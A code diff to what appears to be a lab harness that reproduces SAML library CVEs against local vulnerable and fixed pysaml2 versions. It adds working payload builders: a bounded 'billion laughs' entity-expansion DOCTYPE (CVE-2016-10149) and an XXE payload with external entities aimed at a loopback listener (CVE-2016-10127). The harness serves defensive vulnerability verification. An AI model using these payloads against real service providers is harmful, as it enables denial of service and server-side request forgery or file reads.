@@ -72,7 +72,14 @@ TWINS: dict[str, dict] = {
     "node-saml-5.1.0": {"cves": ["CVE-2025-54419", "CVE-2025-54369"], "vulnerable": False},
     "xml-crypto-6.0.0": {"cves": ["CVE-2025-29774"], "vulnerable": True},
     "xml-crypto-6.0.1": {"cves": ["CVE-2025-29774"], "vulnerable": False},
+    "pysaml2-4.4.0": {"cves": ["CVE-2016-10149", "CVE-2016-10127"], "vulnerable": True,
+                      # measured: the XXE fetch does not happen with Python 3.11's expat and xmlsec1 1.2.37
+                      "not_reproducible": ["CVE-2016-10127"]},
+    "pysaml2-4.5.0": {"cves": ["CVE-2016-10149", "CVE-2016-10127"], "vulnerable": False},
 }
+# Exploits measured by something other than "is the victim signed in": what the attacker gets instead.
+ENTITY_CVES = ("CVE-2016-10149", "CVE-2016-10127")
+LAUGH_LEVELS = 5  # 10^5 expansions of "lol": a 300 kB value from a DTD of a few hundred bytes (bounded)
 
 
 # --- keys and metadata: the probe's own IdP ----------------------------------------------------
@@ -321,6 +328,9 @@ LENIENCIES: list[tuple[str, str, str, object, object, dict]] = [
     ("no_conditions", "TIME-10", "Assertion without Conditions", lambda a: _drop(a, "saml:Conditions"), None, {}),
     ("no_authnstatement", "MAS-04", "Assertion without AuthnStatement", lambda a: _drop(a, "saml:AuthnStatement"), None, {}),
     ("doctype", "XML-01", "harmless internal DOCTYPE before the Response", None, None, {"doctype": True}),
+    ("external_parameter_entity", "XML-02", "a DOCTYPE declaring and referencing an external parameter entity (a closed "
+     "loopback port: accepted means the DTD was taken, not that it was fetched)", None, None,
+     {"doctype": b'<!DOCTYPE samlp:Response [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/x.dtd"> %ext;]>'}),
     ("rsa_sha1", "ALG-02", "signed with RSA-SHA1 and a SHA-1 digest", None, None, {"sig": "rsa-sha1"}),
     ("sha1_digest", "ALG-03", "RSA-SHA256 signature over a SHA-1 digest", None, None, {"sig": "sha1-digest"}),
     ("pi_in_nameid", "CMT-03", "a processing instruction inside the (signed) NameID", _pi_in_nameid, None, {}),
@@ -345,6 +355,12 @@ SHAPES = {
     "CVE-2021-21238": "forged Assertion(victim, own ID): first a schema-invalid wrapper element holding the genuine "
                       "ds:Signature (Reference -> genuine ID), then its own ds:Signature, a copy whose Reference names "
                       "the forged ID; genuine Assertion, its Signature moved out, in samlp:Response/samlp:Extensions",
+    "CVE-2016-10149": f"a DOCTYPE declaring {LAUGH_LEVELS} levels of nested internal entities (ten references each, "
+                      f"'billion laughs' bounded to 10^{LAUGH_LEVELS} expansions), referenced once in an attribute of an element "
+                      "in samlp:Extensions of the attacker's own golden Response (signed Assertion untouched): no "
+                      "signature is needed",
+    "CVE-2016-10127": "the advisory's PoC (pysaml2 issue #366): a DOCTYPE whose external parameter entity and external "
+                      "general entity (in the NameID) name a loopback URL the probe watches",
     "CVE-2025-29774": "forged Assertion(victim, own ID) carries the genuine Signature plus a second ds:SignedInfo "
                       "whose Reference digests the forged Assertion; genuine Assertion, its Signature moved out, "
                       "in samlp:Response/samlp:Extensions",
@@ -370,6 +386,65 @@ def exploit_cve_2025_54419(signed: etree._Element) -> tuple[etree._Element, None
         pi.tail = tail
         el.append(pi)
     return forged, None
+
+
+def exploit_entity_expansion(resp: etree._Element) -> bytes:
+    """pysaml2 < 4.5.0 parsed every message with the standard library's ElementTree, which honours
+    a DOCTYPE's entity declarations (GHSA-m269-wj6g-c459 / CVE-2016-10149, pysaml2 issue #366, fix
+    PR #379: parse with defusedxml, which refuses entity declarations). The parse happens before any
+    signature check, so no signature is needed: the attacker's golden Response (their own signed
+    Assertion, untouched) gets a DOCTYPE with n levels of nested entities (ten references each) and
+    one reference to the top one in an attribute of an element in samlp:Extensions, outside the
+    signed Assertion (xmlsec1 1.2.37 does not substitute entities: an entity reference node in
+    element content anywhere breaks its c14n; one in an attribute value does not).
+    A parser that expands them signs the user in after building the 3 x 10^n-byte text (the
+    billion-laughs DoS, bounded here); a parser that refuses entity declarations signs nobody in."""
+    ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
+    etree.SubElement(ext, "{urn:lab:twin-probe:laughs}Laughs", nsmap={"l": "urn:lab:twin-probe:laughs"}, v="LAUGHS")
+    resp.insert(1, ext)
+    raw = etree.tostring(resp)
+    ents = '<!ENTITY lol0 "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, LAUGH_LEVELS + 1))
+    return f"<!DOCTYPE samlp:Response [{ents}]>".encode() + raw.replace(b'"LAUGHS"', f'"&lol{LAUGH_LEVELS};"'.encode(), 1)
+
+
+class Watch:
+    """A loopback HTTP listener on an ephemeral port that records every request (an XXE's fetch)."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class H(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802
+                hits.append(self.path)
+                body = b'<!ENTITY leak "fetched">'
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *a) -> None:
+                pass
+
+        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+        self.url = f"http://127.0.0.1:{self.srv.server_address[1]}"
+        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.srv.shutdown()
+        self.srv.server_close()
+
+
+def exploit_xxe_oob(resp: etree._Element, url: str) -> bytes:
+    """The advisory's PoC (pysaml2 issue #366): an external parameter entity naming the attacker's
+    URL, plus an external general entity in the NameID. The attack worked when the SP fetched it."""
+    raw = etree.tostring(resp)
+    raw = raw.replace(b"</saml:NameID>", b"&ext;</saml:NameID>", 1)
+    return (f'<!DOCTYPE samlp:Response [<!ENTITY % pe SYSTEM "{url}/pe.dtd"> %pe; '
+            f'<!ENTITY ext SYSTEM "{url}/ge">]>'.encode() + raw)
 
 
 # --- driving the twin ----------------------------------------------------------------------------
@@ -465,6 +540,7 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
         facts[key] = {"claim": claim, "holds": holds, "output": shown}
 
     fact.mark = 0  # type: ignore[attr-defined]
+    fact.out = out  # type: ignore[attr-defined]
     with tempfile.TemporaryDirectory(prefix="twin-probe-") as tmp:
         idp_md, key_pem, cert_pem = make_idp(Path(tmp), f"http://127.0.0.1:{port + 1}/sso")
         t0 = time.monotonic()
@@ -522,13 +598,18 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
                     post(resp)
                 raw = etree.tostring(resp)
                 if extra.get("doctype"):
-                    raw = b'<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>' + raw
+                    dt_ = extra["doctype"] if isinstance(extra["doctype"], bytes) else \
+                        b'<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>'
+                    raw = dt_ + raw
                 st, ident = twin.post_raw(c, acs, raw)
                 out.append(f"leniency {key} ({what}): ACS HTTP {st}, whoami -> {ident}")
                 fact("accepts-" + key.replace("_", "-"), f"accepts {what} (the case of samlconf {scen})", bool(ident))
 
             # 4. the CVE exploits
             for cve in spec["cves"]:
+                if cve in ENTITY_CVES:
+                    entity_exploit(cve, fresh, entity, acs, key_pem, cert_pem, spec["vulnerable"], fact)
+                    continue
                 c, irt = fresh()
                 a = build_assertion(NEAR_VICTIM if cve in NODE_SAML_CVES else ATTACKER, entity, acs, irt)
                 sign_assertion(a, key_pem, cert_pem)
@@ -553,6 +634,53 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
             twin.stop()
         seconds = time.monotonic() - t0
     return {"facts": facts, "seconds": seconds, "manifest": twin.manifest}, out
+
+
+def entity_exploit(cve, fresh, entity, acs, key_pem, cert_pem, vulnerable: bool, fact) -> None:
+    """CVE-2016-10149 (entity expansion) and CVE-2016-10127 (XXE): not an identity swap. What the
+    attacker gets is the parser's expansion (DoS) or its fetch (SSRF / file read): measured as such."""
+    out = fact.out  # type: ignore[attr-defined]
+    c, irt = fresh()
+    a = build_assertion(ATTACKER, entity, acs, irt)
+    if cve == "CVE-2016-10149":
+        sign_assertion(a, key_pem, cert_pem)
+        raw = exploit_entity_expansion(build_response(acs, irt, a))
+        t0 = time.monotonic()
+        r = c.post(acs, data={"SAMLResponse": base64.b64encode(raw).decode()})
+        took = time.monotonic() - t0
+        who = c.get(acs.rsplit("/", 1)[0] + "/whoami")
+        ident = who.json().get("email") if who.status_code == 200 else None
+        out.append(f"{cve} exploit ({SHAPES[cve]}): {len(raw)} bytes posted, 10^{LAUGH_LEVELS} expansions = "
+                   f"{3 * 10 ** LAUGH_LEVELS} bytes; ACS HTTP {r.status_code} in {took:.1f} s, whoami -> {ident}")
+        if vulnerable:
+            fact(cve.lower(), f"the SP's parser expands the attacker's nested entities ({len(raw)} bytes in, "
+                 f"{3 * 10 ** LAUGH_LEVELS} bytes of text out) and signs the user in: the billion-laughs expansion "
+                 f"is open (shape: {SHAPES[cve]})", ident == ATTACKER)
+        else:
+            fact(cve.lower(), f"the SP refuses a message declaring entities: nobody signed in (shape: {SHAPES[cve]})",
+                 ident is None)
+        return
+    sign_assertion(a, key_pem, cert_pem)
+    watch = Watch()
+    try:
+        raw = exploit_xxe_oob(build_response(acs, irt, a), watch.url)
+        r = c.post(acs, data={"SAMLResponse": base64.b64encode(raw).decode()})
+        who = c.get(acs.rsplit("/", 1)[0] + "/whoami")
+        ident = who.json().get("email") if who.status_code == 200 else None
+        time.sleep(0.5)
+        hits = list(watch.hits)
+    finally:
+        watch.close()
+    out.append(f"{cve} exploit ({SHAPES[cve]}): ACS HTTP {r.status_code}, whoami -> {ident}, "
+               f"requests at the watched URL: {hits or 'none'}")
+    if vulnerable:
+        fact(cve.lower(), "the SP fetches the attacker's external entities (the advisory's XXE). Measured here: "
+             "holds=false means the standard library's expat (Python 3.11) never loads external entities and "
+             "Debian's xmlsec1 1.2.37 needs --xxe to, so the SSRF/file-read half does not reproduce on this "
+             f"platform; the entity expansion half is {cve.replace('10127', '10149').lower()} (shape: {SHAPES[cve]})",
+             bool(hits))
+    else:
+        fact(cve.lower(), f"the SP fetches nothing and signs nobody in (shape: {SHAPES[cve]})", not hits and ident is None)
 
 
 def _toml_str(s: str) -> str:
@@ -601,10 +729,12 @@ def main(argv: list[str] | None = None) -> int:
         if a.write:
             write_section(name, text)
         f = result["facts"]
-        bad += (not f["golden-login"]["holds"]) or any(not f[c.lower()]["holds"] for c in TWINS[name]["cves"])
+        nr = TWINS[name].get("not_reproducible", [])
+        bad += (not f["golden-login"]["holds"]) or any(not f[c.lower()]["holds"] for c in TWINS[name]["cves"]
+                                                         if c not in nr)
         print(f"probe: {name}: {len(f)} facts in {result['seconds']:.1f}s; golden login "
               f"{'works' if f['golden-login']['holds'] else 'FAILED'}; "
-              + "; ".join(f"{c} {'as the advisory says' if f[c.lower()]['holds'] else 'DISAGREES with the advisory'}"
+              + "; ".join(f"{c} {'as the advisory says' if f[c.lower()]['holds'] else 'does not reproduce here' if c in nr else 'DISAGREES with the advisory'}"
                           for c in TWINS[name]["cves"]), file=sys.stderr)
     return 1 if bad else 0
 
